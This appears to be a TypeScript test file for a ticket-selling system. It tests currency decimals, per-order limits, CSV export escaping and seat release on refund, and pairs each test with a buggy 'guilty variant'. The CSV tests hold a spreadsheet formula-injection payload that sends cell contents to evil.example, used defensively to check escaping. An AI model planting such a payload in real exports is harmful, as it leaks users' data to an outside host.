import * as fc from "fast-check";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { paidOf } from "#data/load-paid.ts";
import { ticket as tickets } from "#data/ticket.ts";
import { csvLine } from "#domain/csv.ts";
import { Fault } from "#domain/fault.ts";
import { currencies, decimal } from "#domain/money.ts";
import { openOrder } from "#domain/order.ts";
import { quote } from "#domain/quote.ts";
import { decideRefund, makeRefunds } from "#flows/refund.ts";
import { chargeOf } from "#platform/payment-intent.ts";
import { idOf } from "#test/infra/ops/changes.ts";
import { openDisputes, shell, standing } from "#test/support/disputed-sales.ts";
import { anEvent, aTicketType } from "#test/support/things.ts";

let till: Awaited<ReturnType<typeof openDisputes>>;
beforeAll(async () => {
  till = await openDisputes();
}, 60_000);
afterAll(() => till.stop());

const now = new Date("2027-01-10T12:00:00.000Z");

describe("currencies with no decimals and with three cost what they say", () => {
  const price = { JPY: 2500, EUR: 2500, KWD: 2500 };
  const sold = (currency: keyof typeof price) => {
    const type = aTicketType(0, { price: price[currency] });
    const sale = { event: anEvent({ currency }), ticketTypes: [type] };
    const checkout = { eventId: sale.event.eventId, lines: [{ ticketTypeId: type.ticketTypeId, quantity: 1 }] };
    return openOrder(sale, checkout, { userId: idOf("nour"), idempotencyKey: "decimals", now });
  };

  it("to people and to Stripe, which counts them by the same minor unit", () => {
    const shown = (["JPY", "EUR", "KWD"] as const).map((currency) => decimal(price[currency], currency));
    expect(shown).toEqual(["2500", "25.00", "2.500"]);
    for (const currency of ["JPY", "EUR", "KWD"] as const) {
      const order = sold(currency);
      expect(order.total).toBe(price[currency] + order.fee);
      expect(chargeOf(order)).toMatchObject({ amount: order.total, currency: currency.toLowerCase() });
      expect(order.total % currencies[currency].step).toBe(0);
    }
  });

  it("would cost a hundred times too much, or a tenth, if everything had two decimals (the guilty variant)", () => {
    const charged = (currency: keyof typeof price) => Math.round(Number(decimal(price[currency], currency)) * 100);
    expect(charged("EUR")).toBe(price.EUR);
    expect(charged("JPY") / price.JPY).toBe(100);
    expect(charged("KWD") / price.KWD).toBe(0.1);
  });
});

describe("no limit of an order is beaten by asking for a type twice", () => {
  const type = aTicketType(0, { maxPerOrder: 4, price: 0 });
  const sale = { event: anEvent({}), ticketTypes: [type] };
  const cart = fc.array(fc.integer({ min: 1, max: 4 }), { minLength: 1, maxLength: 5 });
  const sum = (quantities: readonly number[]) => quantities.reduce((sum, quantity) => sum + quantity, 0);

  it("as lines of a type count together", () => {
    fc.assert(
      fc.property(cart, (quantities) => {
        const lines = quantities.map((quantity) => ({ ticketTypeId: type.ticketTypeId, quantity }));
        const asked = () => quote(sale, { eventId: sale.event.eventId, lines }, now);
        if (sum(quantities) > 4) expect(asked).toThrow(Fault);
        else expect(sum(asked().lines.map(({ quantity }) => quantity))).toBe(sum(quantities));
      }),
    );
  });

  it("would be, if each line were looked at by itself (the guilty variant)", () => {
    const isAllowed = (quantities: readonly number[]) => quantities.every((quantity) => quantity <= type.maxPerOrder);
    expect(isAllowed([4, 4])).toBe(true);
    expect(sum([4, 4])).toBeGreaterThan(type.maxPerOrder);
  });
});

describe("no text of an export is run by a spreadsheet", () => {
  const evil = '=HYPERLINK("http://evil.example/?"&A1,"Invoice")';
  /** What a spreadsheet makes of a cell: it takes the quotes off before it looks. */
  const isRun = (cell: string) => /^[=+\-@]/.test(cell.replace(/^"|"$/g, "").trimStart());

  it("as what could begin a formula gets an apostrophe in front", () => {
    expect(isRun(csvLine([evil]).trimEnd())).toBe(false);
  });

  it("would be, if it were only quoted (the guilty variant)", () => {
    expect(isRun(`"${evil.replaceAll('"', '""')}"`)).toBe(true);
  });
});

describe("places of an order that is given back whole can be sold again", { timeout: 60_000 }, () => {
  /** All three tickets of an event, sold to one. */
  async function soldOut() {
    const sale = await till.aSale(4);
    const one = await till.sold(3, sale);
    await expect(till.charged(1, sale)).rejects.toMatchObject({ code: "sold_out" });
    return { sale, one };
  }

  it("at the moment its tickets end, all of them", async () => {
    const { sale, one } = await soldOut();
    await decideRefund(one.paymentId, { refundId: idOf(`${one.orderId} back`), reason: "requested" }, shell);
    await makeRefunds(one.paymentId, shell);
    expect(await standing(one)).toMatchObject({ order: "refunded", taken: 0 });
    await till.charged(3, sale);
  });

  it("would be lost, if only the tickets were ended (the guilty variant)", async () => {
    const { sale, one } = await soldOut();
    for (const { ticketId, eventId, shard, purchasedAt } of (await paidOf(one.paymentId)).tickets) {
      await tickets.patch({ ticketId }).set({ status: "refunded" }).composite({ eventId, shard, purchasedAt }).go();
    }
    await expect(till.charged(1, sale)).rejects.toMatchObject({ code: "sold_out" });
  });
});
